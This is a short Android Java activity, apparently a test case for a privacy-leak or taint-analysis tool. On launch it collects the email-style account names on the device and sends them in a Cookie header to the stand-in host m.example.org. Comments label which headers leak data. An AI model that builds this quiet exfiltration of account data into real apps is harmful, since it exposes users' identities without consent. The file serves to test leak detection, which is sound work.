package olden;

import android.accounts.*;
import android.app.*;
import android.os.*;

import java.io.*;
import java.net.*;
import java.util.regex.*;

/** Names of accounts as a header. */
public class Mails extends Activity implements Runnable {
    String mails() {
        Pattern p = Pattern.compile(".+@.+");
        String r = null;
        for (Account a : AccountManager.get(this).getAccounts())
            if (p.matcher(a.name).matches()) {
                if (r == null) r = a.name;
                else r = r + ";" + a.name;
            }
        return r;
    }

    int count() {
        return AccountManager.get(this).getAccountsByType("com.google").length;
    }

    protected void onCreate(Bundle b) {
        super.onCreate(b);
        new Thread(this, "m").start();
    }

    public void run() {
        try {
            HttpURLConnection c =
                    (HttpURLConnection) new URL("http://m.example.org/a").openConnection();
            c.setRequestProperty("Cookie", "u=" + mails()); // leak
            c.setRequestProperty("X-N", "" + count()); // no leak
            c.setRequestProperty("User-Agent", System.getProperty("http.agent")); // no leak
            c.connect();
        } catch (IOException e) {
        }
    }
}
